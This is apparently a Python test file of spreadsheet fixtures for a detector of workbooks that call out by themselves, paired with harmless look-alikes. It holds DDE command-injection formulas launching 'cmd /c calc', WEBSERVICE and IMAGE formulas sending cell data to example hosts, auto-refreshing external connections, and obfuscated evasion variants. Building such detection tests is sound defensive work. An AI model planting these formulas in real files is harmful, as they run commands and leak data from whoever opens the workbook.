"""Workbooks that ask others for something by themselves, and honest ones that look a little like them."""

from typing import Final

from tests.corpus.files.case import FileCase
from tests.inspection.office_files import XML, content, odt, xlsx

_SPACE: Final = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_WEB: Final = '<webPr url="https://a.example/rates"/>'
_DATABASE: Final = '<dbPr connection="Provider=SQLOLEDB;Data Source=a.example" command="select 1"/>'
_QUERY: Final = '<queryTable refreshOnLoad="1" connectionId="1"/>'
_CALL: Final = "_xlfn.WEBSERVICE(&quot;https://a.example/&quot;&amp;A1)"
_DDE: Final = "DDE(&quot;cmd&quot;,&quot;/c calc&quot;,&quot;A1&quot;)"
_2003: Final = "urn:schemas-microsoft-com:office:spreadsheet"


def _case(name: str, data: bytes, *reasons: str) -> FileCase:
    return FileCase(name, lambda: data, frozenset(f"office_{reason}" for reason in reasons))


def _cell(formula: str, attributes: str = "") -> bytes:
    return xlsx(f"<c><f{attributes}>{formula}</f></c>")


def _named(formula: str) -> bytes:
    names = f'<definedNames><definedName name="a">{formula}</definedName></definedNames>'
    return xlsx("<c><f>a</f></c>", xl__workbook_dot_xml=f"{XML}<workbook {_SPACE}>{names}</workbook>")


def _connected(source: str, attributes: str = "", **parts: str) -> bytes:
    connection = f'<connections {_SPACE}><connection id="1" {attributes}>{source}</connection></connections>'
    return xlsx(xl__connections_dot_xml=XML + connection, **parts)


def _pivot(source: str) -> str:
    return f'<pivotCacheDefinition {_SPACE} refreshOnLoad="1"><cacheSource type="{source}"/></pivotCacheDefinition>'


def _of_2003(formula: str, names: str = "", before: str = "") -> bytes:
    cell = f'<Cell ss:Formula="{formula}"><Data ss:Type="String">a | DDE(b)&#10;</Data></Cell>'
    sheet = f'<Worksheet ss:Name="S"><Table><Row>{cell}</Row></Table></Worksheet>'
    spaces = f'xmlns="{_2003}" xmlns:ss="{_2003}"'
    return f'<?xml version="1.0"?>{before}<Workbook {spaces}>{names}{sheet}</Workbook>'.encode()


_DANGEROUS: Final = (
    _case("webservice.xlsx", _cell(_CALL), "remote"),
    _case("webservice-in-letters-of-both-cases.xlsx", _cell("1+_xlfn.WebService (A1)"), "remote"),
    _case("webservice-behind-a-comment.xlsx", _cell("_xlfn.WEB<!-- -->SERVICE(A1)"), "remote"),
    _case("webservice-in-an-array.xlsx", _cell(_CALL, ' t="array" ref="A1"').replace(b"</f>", b"</f >"), "remote"),
    _case("webservice-in-a-name.xlsx", _named(_CALL), "remote"),
    _case("webservice.ods", odt(f'<table:table-cell table:formula="of:=COM.MICROSOFT.{_CALL[6:]}"/>'), "remote"),
    _case("picture.xlsx", _cell('_xlfn.IMAGE("http://h.example/?"&amp;A2)'), "remote"),
    _case("import.xlsx", _cell('_xlws.ImportCSV("http://h.example/")'), "remote"),
    _case("data-of-a-program.xlsx", _cell('RTD("a",,"b")'), "dde"),
    _case("dde-function.xlsx", _cell(f"IF(1,{_DDE.lower()})"), "dde"),
    _case("dde-function-in-a-name.xlsx", _named(_DDE), "dde"),
    _case("dde-in-a-name.xlsx", _named("cmd|'/c calc'!A0"), "dde"),
    _case("dde-in-a-name.ods", odt(f'<table:named-expression table:expression="of:={_DDE}"/>'), "dde"),
    _case("web-query-on-load.xlsx", _connected(_WEB, 'refreshOnLoad="1"'), "remote"),
    _case("database-on-load.xlsx", _connected(_DATABASE, 'refreshOnLoad="true"'), "remote"),
    _case("database-every-minute.xlsx", _connected(_DATABASE, 'interval="1"'), "remote"),
    _case("database-of-a-query.xlsx", _connected(_DATABASE, xl__queryTables__a_dot_xml=XML + _QUERY), "remote"),
    _case("database-of-a-pivot.xlsx", _connected(_DATABASE, xl__a_dot_xml=XML + _pivot("external")), "remote"),
    _case(
        "text-on-a-share.xlsx", _connected('<textPr sourceFile="\\\\10.0.0.1\\a.csv"/>', 'refreshOnLoad="1"'), "remote"
    ),
    _case("dde-of-2003.xls", _of_2003("=cmd|'/c calc'!A0"), "dde"),
    _case("dde-function-of-2003.xml", _of_2003(f"={_DDE.replace(',', ';')}"), "dde"),
    _case("dde-function-of-2003-in-utf-16.xml", _of_2003(f"={_DDE}").decode().encode("utf-16"), "dde"),
    _case(
        "dde-function-of-2003-in-references.xml",
        _of_2003("=&#68;DE(A1)").replace(_2003.encode(), b"&#117;" + _2003[1:].encode()),
        "dde",
    ),
    _case("dde-in-a-name-of-2003.xml", _of_2003("=a", f'<NamedRange ss:RefersTo="={_DDE}"/>'), "dde"),
    _case("webservice-of-2003.xls", _of_2003(f"={_CALL[6:]}"), "remote"),
    _case("doctype-of-2003.xls", _of_2003("=1", before='<!DOCTYPE a [<!ENTITY d "DDE">]>'), "doctype"),
)
_HONEST: Final = (
    _case("links.xlsx", _cell('HYPERLINK("https://example.com/?a="&amp;A2,"here")')),
    _case("talk.xlsx", _cell('IF(A1="DDE(x)","WEBSERVICE(y)",ADD_DDE(1))')),
    _case("text.xlsx", xlsx('<c t="inlineStr"><is><t>WEBSERVICE(x) or DDE(y)</t></is></c><c><f>SUM(A1)</f></c>')),
    _case("from-a-table-on-the-web.xlsx", _cell('IFERROR(__xludf.DUMMYFUNCTION("IMPORTXML(A1)"),"WEBSERVICE (a)")')),
    _case("names.xlsx", _named("OFFSET(A!$A$1,0,0,COUNTA(A!$A:$A),1)")),
    _case("connection.xlsx", _connected(_DATABASE, 'keepAlive="1" interval="0" refreshOnLoad="0"')),
    _case("local-text-on-load.xlsx", _connected('<textPr sourceFile="C:\\a.csv"/>', 'refreshOnLoad="1"')),
    _case("pivot-on-load.xlsx", _connected(_DATABASE, xl__a_dot_xml=XML + _pivot("worksheet"))),
    _case("talk.ods", odt('<table:table-cell table:formula="of:=IF(1;&quot;DDE(x)&quot;;1)"/>', kind="spreadsheet")),
    _case("sums.fods", content('<table:table-cell table:formula="of:=SUM([.A1])"/>', "document").encode()),
    _case("sums-of-2003.xml", _of_2003("=IF(RC[-1]=&quot;WEBSERVICE(|)&quot;,SUM(R1C1:R9C1),2)")),
    _case("plain-of-2003.xml", _of_2003("=1").replace(b"a | DDE(b)&#10;", b"a")),
    _case("not-well-formed-of-2003.xml", _of_2003("=1").replace(b"a | DDE(b)&#10;", b"a & b")),
)
CASES: Final[tuple[FileCase, ...]] = _DANGEROUS + _HONEST
